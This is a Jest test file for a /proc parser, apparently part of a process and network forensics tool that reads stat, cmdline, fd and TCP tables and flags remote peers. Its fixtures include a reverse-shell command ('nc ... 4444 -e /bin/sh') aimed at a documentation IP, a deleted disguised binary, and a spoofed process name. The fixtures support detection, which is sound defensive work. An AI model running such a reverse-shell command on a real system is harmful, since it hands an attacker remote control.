import { spawnSync } from 'node:child_process';
import { readFileSync, readlinkSync } from 'node:fs';
import { createServer, connect, type Server } from 'node:net';
import { decodeEndpoint, isRemotePeer, parseBootTime, parseCmdline, parseExeLink, parseFdListing, parseSocketTable, parseStat, parseStats, parseStatsAfterSystemStat, parseTcpTables, socketInode, startedAt } from './procfs';

// The parsers read this machine's own /proc: the format is the kernel's, not one written for the tests.

/** What `cat` prints of the files it could read, as the capture gets it: a missing one fails the command, not the rest. */
const cat = (...paths: string[]) => spawnSync('cat', paths, { encoding: 'utf8' }).stdout;

test('a process of this machine, read from its own /proc/PID/stat, is itself: pid, parent and a start after boot', () => {
  const stat = parseStat(readFileSync(`/proc/${process.pid}/stat`, 'utf8'))!;
  expect(stat).toMatchObject({ pid: process.pid, ppid: process.ppid });
  const boot = parseBootTime(readFileSync('/proc/stat', 'utf8'))!;
  const started = Date.parse(startedAt(stat.startTicks, boot));
  expect(started).toBeGreaterThan(boot * 1000);
  expect(started).toBeLessThanOrEqual(Date.now() + 1000);
});

test('one cat of /proc/stat and the processes\' stat files gives the boot time and every process, and no name can pose as the clock', () => {
  const read = cat('/proc/stat', `/proc/${process.pid}/stat`, `/proc/${process.ppid}/stat`, '/proc/0/stat');
  const parsed = parseStatsAfterSystemStat(read);
  expect(parsed.bootTime).toBe(parseBootTime(readFileSync('/proc/stat', 'utf8')));
  expect(parsed.stats.map((s) => s.pid)).toEqual([process.pid, process.ppid]);
  // A process may call itself anything of 15 bytes, newlines included.
  const posing = '4242 (x\nbtime 1\n) S 1 4242 4242 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 98765 0 0\n';
  expect(parseStatsAfterSystemStat(`${readFileSync('/proc/stat', 'utf8')}${posing}`).bootTime).toBe(parsed.bootTime);
  // /proc/stat unreadable: no boot time at all, rather than the one a name offers.
  expect(parseStatsAfterSystemStat(`${readFileSync(`/proc/${process.pid}/stat`, 'utf8')}${posing}`).bootTime).toBeUndefined();
});

test('a name with spaces and parentheses ends at the last parenthesis', () => {
  expect(parseStat('4242 (a (b) c) S 17 4242 4242 0 -1 4194560 100 0 0 0 0 0 0 0 20 0 1 0 98765 1000 10 18446744073709551615 0 0 0 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0')).toEqual({
    pid: 4242,
    comm: 'a (b) c',
    state: 'S',
    ppid: 17,
    startTicks: 98765,
  });
  expect(parseStats('1 (init) S 0 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 5 0 0\n\n2 (nc) S 1 2 2 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 9 0 0\n').map((s) => s.pid)).toEqual([1, 2]);
  expect(parseStat('not a stat line')).toBeUndefined();
});

test('the command line of this process, NUL-separated as the kernel writes it', () => {
  const args = parseCmdline(readFileSync(`/proc/${process.pid}/cmdline`));
  expect(args.some((arg) => arg.includes('jest'))).toBe(true);
  expect(args.every((arg) => !arg.includes('\0'))).toBe(true);
  expect(parseCmdline(Buffer.from(['nc', '198.51.100.23', '4444', '-e', '/bin/sh', ''].join('\u0000')))).toEqual(['nc', '198.51.100.23', '4444', '-e', '/bin/sh']);
});

test('an executable unlinked after it started shows as "(deleted)", and the path is kept', () => {
  expect(parseExeLink(readlinkSync(`/proc/${process.pid}/exe`))).toEqual({ path: process.execPath, deleted: false });
  expect(parseExeLink('/tmp/.cache/kworkerd (deleted)\n')).toEqual({ path: '/tmp/.cache/kworkerd', deleted: true });
});

describe('a live TCP connection of this machine', () => {
  let server: Server;
  beforeAll(() => new Promise<void>((resolve) => (server = createServer((socket) => socket.on('error', () => undefined)).listen(0, '127.0.0.1', () => resolve()))));
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  test('is found in /proc/PID/net/tcp with its ports, and its inode is one of the descriptors of /proc/PID/fd', async () => {
    const port = (server.address() as { port: number }).port;
    const client = connect(port, '127.0.0.1');
    await new Promise<void>((resolve) => client.once('connect', () => resolve()));
    try {
      const table = parseSocketTable(readFileSync(`/proc/${process.pid}/net/tcp`, 'utf8'), 'tcp');
      const listening = table.find((s) => s.local.port === port && s.state === 'LISTEN');
      const outgoing = table.find((s) => s.remote.port === port && s.local.port === client.localPort && s.state === 'ESTABLISHED');
      expect(listening).toMatchObject({ local: { address: '127.0.0.1', port } });
      expect(outgoing).toMatchObject({ remote: { address: '127.0.0.1', port } });
      // What `ls -l /proc/PID/fd` prints (coreutils here; busybox has the same "N -> target" tail).
      // A descriptor closed between ls's readdir and its lstat makes it exit 1 with the rest listed, as the capture takes it.
      const fds = parseFdListing(spawnSync('ls', ['-l', `/proc/${process.pid}/fd`], { encoding: 'utf8' }).stdout);
      const inodes = new Set(fds.map((f) => socketInode(f.target)).filter((i) => i !== undefined));
      expect(inodes.has(outgoing!.inode)).toBe(true);
      expect(inodes.has(listening!.inode)).toBe(true);
      // Both tables in one cat: each entry keeps its table; without one of them (no IPv6, say) the other still reads.
      // The tables are the machine's, and other sockets come and go between reads: only these ones are compared.
      const v6 = await new Promise<Server | undefined>((resolve) => {
        const listener = createServer().once('error', () => resolve(undefined));
        listener.listen(0, '::1', () => resolve(listener));
      });
      try {
        const both = parseTcpTables(cat(`/proc/${process.pid}/net/tcp`, `/proc/${process.pid}/net/tcp6`));
        expect(both).toContainEqual(listening);
        expect(both).toContainEqual(outgoing);
        if (v6) expect(both).toContainEqual(expect.objectContaining({ protocol: 'tcp6', local: { address: '::1', port: (v6.address() as { port: number }).port }, state: 'LISTEN' }));
        expect(both.every((s) => (s.protocol === 'tcp') === !s.local.address.includes(':'))).toBe(true);
        const partial = parseTcpTables(cat(`/proc/${process.pid}/net/tcp`, `/proc/${process.pid}/net/no-such-table`));
        expect(partial).toContainEqual(listening);
        expect(partial.every((s) => s.protocol === 'tcp')).toBe(true);
      } finally {
        v6?.close();
      }
    } finally {
      client.destroy();
    }
  });
});

test('addresses decode as the kernel stores them, IPv4 and IPv6, and peers are told from the pod itself', () => {
  expect(decodeEndpoint('0100007F:1F90')).toEqual({ address: '127.0.0.1', port: 8080 });
  expect(decodeEndpoint('176433C6:115C')).toEqual({ address: '198.51.100.23', port: 4444 });
  expect(decodeEndpoint('00000000000000000000000001000000:0016')).toEqual({ address: '::1', port: 22 });
  expect(decodeEndpoint('0000000000000000FFFF0000176433C6:115C')).toEqual({ address: '::ffff:198.51.100.23', port: 4444 });
  expect(decodeEndpoint('B80D0120000000000000000001000000:01BB')).toEqual({ address: '2001:db8::1', port: 443 });
  expect(decodeEndpoint('zz:1')).toBeUndefined();
  expect(['198.51.100.23', '10.8.0.14', '2001:db8::1'].filter(isRemotePeer)).toEqual(['198.51.100.23', '10.8.0.14', '2001:db8::1']);
  expect(['127.0.0.1', '0.0.0.0', '::', '::1', '169.254.169.254', 'fe80::1'].filter(isRemotePeer)).toEqual([]);
});
